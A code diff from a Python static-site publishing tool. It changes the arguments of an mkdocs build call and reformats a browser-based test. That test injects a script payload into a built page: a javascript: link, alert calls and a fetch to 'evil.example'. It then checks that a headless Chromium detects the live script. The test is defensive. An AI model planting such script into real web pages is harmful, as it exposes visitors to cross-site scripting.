@@ -106,7 +106,7 @@ def _publish(root: Path) -> list[gate.Offence]:
     library = reading.read(root).library
     render.render(library, root / "theme", out / "pages")
     engine.assets(root / "theme", out / "pages" / "assets")
-    engine.run_mkdocs(root, library, out / "pages", out / "site")
+    engine.run_mkdocs(root / "mkdocs.yml", root / "theme", library, out / "pages", out / "site")
     exports.write(library, out / "site", library.site.address)
     searchindex.write(library, out / "site")
     collection.write(library, out / "site")
@@ -216,7 +216,9 @@ def test_what_lives_would_be_seen(folder: Path, chromium: Browser) -> None:
     corpora.write(folder, corpora.sources())
     assert _publish(folder) == []
     page = folder / "build/site/so-lieu.html"
-    hostile = '<a href="javascript:alert(1)">a</a><p id="x"></p><script>alert(2); fetch("https://evil.example/")</script>'
+    hostile = (
+        '<a href="javascript:alert(1)">a</a><p id="x"></p><script>alert(2); fetch("https://evil.example/")</script>'
+    )
     page.write_text(page.read_text(encoding="utf-8").replace("</article>", hostile + "</article>"), encoding="utf-8")
     found = "\n".join(_live(folder / "build/site", chromium))
     assert "dialog on file://" in found
